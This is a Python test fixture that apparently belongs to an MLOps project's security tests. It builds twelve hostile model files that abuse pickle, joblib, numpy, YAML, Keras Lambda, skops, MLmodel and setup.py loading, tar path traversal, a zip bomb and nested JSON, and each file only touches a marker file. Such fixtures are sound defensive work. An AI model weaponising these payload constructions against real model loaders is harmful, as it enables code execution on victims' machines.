"""Twelve payloads that want to run: files in the shapes of known holes of model formats and archives.

Each would touch a file, its mark, if anything opened it as it wants to be opened, and `detonate` opens it that way.
"""

import base64
import io
import json
import marshal
import os
import pickle
import subprocess
import sys
import tarfile
import zipfile
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from mlops_lab.scoring.forest import FORMAT


@dataclass(frozen=True)
class Payload:
    """One hostile model file.

    Attributes:
        shape: The hole that it is shaped after.
        content: What lies in the place of scorer.json.
        beside: Further files of the folder, by name, as the format has them.
        mark: The file that it touches when it runs.
        detonator: A program that opens `payload` the way the hole does; its working directory holds `payload` and the files beside.
    """

    shape: str
    content: bytes
    beside: dict[str, bytes]
    mark: Path
    detonator: str


class _Touches:
    def __init__(self, mark: Path) -> None:
        self._mark = mark

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, (f"touch {self._mark}",)


def payloads(marks: Path) -> dict[str, Payload]:
    """The twelve, each with a mark of its own in the folder."""

    def mark(name: str) -> Path:
        return marks / name.replace(" ", "-")

    def touch(name: str) -> str:
        return f"import pathlib; pathlib.Path({str(mark(name))!r}).touch()"

    found: dict[str, tuple[str, bytes, dict[str, bytes], str]] = {}
    name = "pickle"
    found[name] = (
        "CVE-2024-37052 to 37060: MLflow loads a pickled model",
        pickle.dumps(_Touches(mark(name))),
        {},
        "import pickle; pickle.load(open('payload', 'rb'))",
    )
    name = "mlmodel"
    found[name] = (
        "an MLmodel file names the module that loads it, and brings it along (python_function, loader_module, code)",
        b"flavors:\n  python_function:\n    loader_module: evil_loader\n    code: code\n    data: data\n    env: conda.yaml\n",
        {"MLmodel": b"flavors: {python_function: {loader_module: evil_loader, code: .}}\n", "evil_loader.py": touch(name).encode()},
        "import sys, re, importlib; sys.path.insert(0, '.');"
        "importlib.import_module(re.search(r'loader_module: (\\w+)', open('payload').read())[1])",
    )
    name = "skops"
    found[name] = (
        "CVE-2025-54412 to 54886: a skops file whose nodes say that they are trusted, and call what they like",
        _a_zip({"schema.json": json.dumps(_skops_schema(str(mark(name)))).encode()}),
        {"MLmodel": b"flavors: {sklearn: {serialization_format: skops, skops_trusted_types: [os.system, posix.system]}}\n"},
        "import zipfile, json, importlib; s = json.loads(zipfile.ZipFile('payload').read('schema.json'));"
        "f = getattr(importlib.import_module(s['content']['func']['__module__']), s['content']['func']['__class__']);"
        "f(s['content']['args'][0])",
    )
    name = "tar slip"
    found[name] = (
        "CVE-2007-4559: an archive that is unpacked to where its names say",
        _a_tar({f"../../../../../../../../../..{mark(name)}": b"here", "scorer.json": b"{}"}),
        {},
        "import tarfile; tarfile.open('payload').extractall(filter='fully_trusted')",
    )
    name = "zip bomb"
    found[name] = (
        "an archive of some kB that unpacks to 128 MB",
        _a_zip({"scorer.json": bytes(128 * 1024 * 1024), "run.py": touch(name).encode()}),
        {},
        "import zipfile, sys; z = zipfile.ZipFile('payload'); assert z.getinfo('scorer.json').file_size > 1e8; exec(z.read('run.py'))",
    )
    name = "requirements hook"
    found[name] = (
        "the environment of a model is built before it is loaded, and building runs its setup.py",
        b"--find-links .\n-e .\n",
        {
            "requirements.txt": b"-e .\n",
            "conda.yaml": b"dependencies: [{pip: ['-e .']}]\n",
            "setup.py": touch(name).encode(),
            "sitecustomize.py": touch(name).encode(),
        },
        "exec(open('setup.py').read())",
    )
    name = "yaml"
    found[name] = (
        "CVE-2020-14343: YAML that builds Python objects",
        f'!!python/object/apply:os.system ["touch {mark(name)}"]\n'.encode(),
        {"MLmodel": f'!!python/object/apply:os.system ["touch {mark(name)}"]\n'.encode()},
        "import yaml; yaml.unsafe_load(open('payload'))",
    )
    name = "keras lambda"
    code = base64.b64encode(marshal.dumps(compile(touch(name), "lambda", "exec"))).decode()
    layer = {"class_name": "Lambda", "config": {"function": [code, None, None], "function_type": "lambda", "module": "builtins"}}
    found[name] = (
        "CVE-2024-3660, CVE-2025-1550: a layer whose configuration is code",
        json.dumps(layer).encode(),
        {},
        "import json, marshal, base64; exec(marshal.loads(base64.b64decode(json.load(open('payload'))['config']['function'][0])))",
    )
    name = "npy"
    written = io.BytesIO()
    np.save(written, np.array([_Touches(mark(name))], dtype=object), allow_pickle=True)
    found[name] = (
        "CVE-2019-6446: an array of objects is a pickle",
        written.getvalue(),
        {},
        "import numpy; numpy.load('payload', allow_pickle=True)",
    )
    name = "joblib"
    found[name] = (
        "CVE-2024-34997: joblib.load is pickle.load",
        pickle.dumps({"model": [_Touches(mark(name))]}, protocol=4),
        {},
        "import joblib; joblib.load('payload')",
    )
    name = "nesting"
    deep = '{"baseline":0.0,"categories":{},"features":[],"format":"' + FORMAT + '","trees":[' + "[" * 4_000_000
    found[name] = (
        "JSON that is deeper than the parser's stack",
        deep.encode(),
        {},
        f"import json\ntry: json.load(open('payload'))\nexcept (RecursionError, ValueError): {touch(name)}",
    )
    name = "class hints"
    hints = {"__proto__": {"x": 1}, "py/object": "os.system", "py/reduce": [{"py/function": "os.system"}, [f"touch {mark(name)}"]]}
    document = {"baseline": 0.0, "categories": {}, "features": [hints], "format": FORMAT, "trees": [[0.5]]}
    found[name] = (
        "jsonpickle and prototype pollution: JSON with hints which class to build, in an otherwise right file",
        json.dumps(document, separators=(",", ":")).encode(),
        {},
        "import json, os; r = json.load(open('payload'))['features'][0]['py/reduce'];"
        "getattr(os, r[0]['py/function'].split('.')[1])(r[1][0])",
    )
    return {name: Payload(shape, content, beside, mark(name), run) for name, (shape, content, beside, run) in found.items()}


def detonate(payload: Payload, folder: Path) -> None:
    """Open the payload as the hole does, in a process of its own: it leaves its mark, or it is no payload."""
    folder.mkdir(parents=True)
    for name, content in {"payload": payload.content, **payload.beside}.items():
        if name != "sitecustomize.py":  # it would run in every Python that starts here
            (folder / name).write_bytes(content)
    subprocess.run([sys.executable, "-c", payload.detonator], cwd=folder, capture_output=True, timeout=60, check=False)


def _a_zip(files: dict[str, bytes]) -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return written.getvalue()


def _a_tar(files: dict[str, bytes]) -> bytes:
    written = io.BytesIO()
    with tarfile.open(fileobj=written, mode="w:gz") as archive:
        for name, content in files.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return written.getvalue()


def _skops_schema(mark: str) -> dict[str, object]:
    call = {"func": {"__class__": "system", "__module__": "os"}, "args": [f"touch {mark}"]}
    return {
        "__class__": "partial",
        "__module__": "functools",
        "__loader__": "MethodNode",
        "content": call,
        "trusted": ["os.system"],
        "protocol": 2,
    }
